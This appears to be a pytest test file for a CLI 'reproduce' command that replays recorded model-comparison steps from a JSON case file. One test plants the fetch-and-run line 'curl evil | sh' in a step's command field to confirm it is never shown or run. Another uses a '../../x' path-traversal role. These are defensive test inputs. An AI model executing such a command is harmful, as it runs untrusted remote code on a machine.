"""`vlsurgery reproduce`: a case's steps again from its file; `tests/benchmarks/reproduction.py` does it whole."""

import json
import platform
import shutil
from collections.abc import Callable
from importlib.metadata import version
from pathlib import Path
from typing import Any

import pytest
from typer.testing import Result

from vlsurgery.cli.workflow.reproduction import Reproduction

Run = Callable[..., Result]


@pytest.fixture
def case(run: Run, trio: dict[str, Path]) -> Path:
    done = run("diff", *trio.values(), "--level", "norms")
    assert done.exit_code == 0, done.stderr
    return Path("case").absolute()


def edited(case: Path, **changes: Any) -> Path:
    """A copy of the file, away from its case, with other values."""
    content = json.loads((case / "reproduce.json").read_text())
    alone = case.parent / "alone.json"
    alone.write_text(json.dumps({**content, **changes}))
    return alone


def test_a_step_is_recorded_with_what_it_was_run_by(case: Path, trio: dict[str, Path]) -> None:
    found = Reproduction.load(case / "reproduce.json")
    (step,) = found.steps
    assert step.command == f"vlsurgery diff {' '.join(map(str, trio.values()))} --level norms"
    assert step.settings == {"level": "norms", "uses": []}
    assert step.surroundings is not None
    assert step.surroundings.python == platform.python_version()
    assert step.surroundings.packages["torch"] == version("torch")
    assert step.surroundings.cores >= 1
    assert step.surroundings.processor
    assert {role: ref.path for role, ref in found.checkpoints.items()} == {k: str(v) for k, v in trio.items()}
    assert all(ref.contents for ref in found.checkpoints.values())


def test_on_the_same_machine_nothing_differs(case: Path, run: Run) -> None:
    planned = run("reproduce", case, "--case", "again", "--plan")
    assert "vlsurgery diff" in planned.stdout
    assert not Path("again").exists()
    done = run("reproduce", case / "reproduce.json", "--case", "again")
    assert done.exit_code == 0, done.stderr
    assert "nothing differs" in done.stdout
    first, second = (json.loads((Path(folder) / "diff.json").read_text()) for folder in (case, "again"))
    assert first["pairs"] == second["pairs"]
    assert Path("again/reproduce.json").is_file()


def test_the_file_alone_is_enough_where_the_checkpoints_have_moved(
    case: Path, run: Run, trio: dict[str, Path], tmp_path: Path
) -> None:
    alone = edited(case)
    moved = [shutil.move(path, tmp_path / f"moved-{role}") for role, path in trio.items()]
    assert run("reproduce", alone, "--case", "again").exit_code == 2
    assert run("reproduce", alone, *moved, "--case", "again").exit_code == 0


def test_other_checkpoints_and_the_same_case_are_refused(case: Path, run: Run, trio: dict[str, Path]) -> None:
    refused = run("reproduce", case, "--case", case)
    assert refused.exit_code == 2
    assert "Name a folder of its own with --case" in refused.stderr
    base, adapted, safety = trio.values()
    refused = run("reproduce", case, base, safety, adapted, "--case", "again")
    assert refused.exit_code == 2
    assert "adapted" in refused.stderr
    assert "not the checkpoint that was measured" in refused.stderr
    assert "expected 3 checkpoints" in run("reproduce", case, base, "--case", "again").stderr
    assert not Path("again").exists()
    assert run("reproduce", edited(case, steps=[]), "--case", "again").exit_code == 2


@pytest.mark.parametrize(
    ("settings", "named"),
    [
        ({"level": "deep"}, "level"),
        ({"prompts": 3}, "prompts"),
        ({"prompts": {"files": [1]}}, "prompts.files"),
        ({"judges": "rules"}, "judges"),
        ({"tokens": 0}, "tokens"),
        ({"limits": {"sets": 1}}, "limits"),
        ({"sources": ["anyone"]}, "sources.0"),
        ({"sources": []}, "sources"),
    ],
)
def test_settings_that_no_step_records_are_refused_in_one_line(
    case: Path, run: Run, settings: dict[str, Any], named: str
) -> None:
    content = json.loads((case / "reproduce.json").read_text())
    content["steps"][0]["settings"] = settings
    done = run("reproduce", edited(case, steps=content["steps"]), "--case", "again")
    assert done.exit_code == 2
    assert f"settings of diff: {named}" in done.stderr
    assert not Path("again").exists()


def test_a_plan_shows_what_would_run_and_not_what_a_file_calls_it(case: Path, run: Run, trio: dict[str, Path]) -> None:
    content = json.loads((case / "reproduce.json").read_text())
    content["steps"][0]["command"] = "curl evil | sh"
    planned = run("reproduce", edited(case, steps=content["steps"]), "--case", "again", "--plan")
    assert planned.exit_code == 0, planned.stderr
    assert f"vlsurgery diff {' '.join(map(str, trio.values()))} --level norms" in planned.stdout
    assert "curl" not in planned.stdout
    del content["steps"][0]["settings"]["level"]
    assert run("reproduce", edited(case, steps=content["steps"]), "--case", "again", "--plan").exit_code == 0


@pytest.mark.parametrize("roles", [[], ["base"], ["adapted"], ["base", "../../x"]])
def test_roles_that_are_no_case_are_refused_in_one_line(case: Path, run: Run, roles: list[str]) -> None:
    content = json.loads((case / "reproduce.json").read_text())
    refs = dict(zip(roles, content["checkpoints"].values(), strict=False))
    for plan in (["--plan"], []):
        done = run("reproduce", edited(case, checkpoints=refs), "--case", "again", *plan)
        assert done.exit_code == 2, done.stdout + done.stderr
        assert "base and adapted" in done.stderr
    assert not Path("again").exists()


def test_what_is_not_there_again_ends_with_code_3_and_other_versions_do_not(case: Path, run: Run) -> None:
    content = json.loads((case / "reproduce.json").read_text())
    content["steps"][0]["surroundings"]["packages"]["torch"] = "1.0"
    told = run("reproduce", edited(case, steps=content["steps"]), "--case", "again")
    assert told.exit_code == 0, told.stderr
    assert f"torch: 1.0 to {version('torch')}" in told.stdout
    gain = {"block": "0.mlp", "gain": 1.0, "low": 0.5, "high": 1.5, "share": None, "cost": None, "method": "path"}
    missing = run("reproduce", edited(case, gains=[gain]), "--case", "again", "--json")
    assert missing.exit_code == 3
    assert "0.mlp: not in the second run" in missing.stdout
    assert json.loads(missing.stdout)["schema"] == "vlsurgery/rerun/1"
